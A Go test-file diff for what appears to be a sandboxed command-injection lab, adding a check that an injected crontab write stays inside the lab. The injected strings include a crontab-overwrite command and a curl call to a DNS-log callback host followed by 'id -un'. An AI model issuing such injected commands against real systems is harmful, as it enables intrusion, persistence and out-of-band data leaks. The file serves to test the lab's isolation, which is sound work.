@@ -1,6 +1,7 @@
 package lab
 
 import (
+	"bytes"
 	"context"
 	"os"
 	"slices"
@@ -48,6 +49,13 @@ func TestIntrusionHappensAndLeavesNothing(t *testing.T) {
 		if answer, err := lab.Inject(ctx, command); err != nil || answer != honest {
 			t.Errorf("%s answered %q, %v", command, answer, err)
 		}
+	}
+	before, _ := os.ReadFile(Crontab)
+	if answer, err := lab.Inject(ctx, "echo job > "+Crontab+"; cat "+Crontab); err != nil || answer != honest+"job\n" {
+		t.Errorf("the victim has no crontab of its own: %q, %v", answer, err)
+	}
+	if after, _ := os.ReadFile(Crontab); !bytes.Equal(after, before) {
+		t.Errorf("the machine's own %s changed: %q", Crontab, after)
 	}
 	if answer, err := lab.Inject(ctx, "curl -s http://"+DNSLog+"/t > /dev/null; id -un"); err != nil || !strings.Contains(answer, serviceUser) {
 		t.Errorf("injected command answered %q, %v", answer, err)
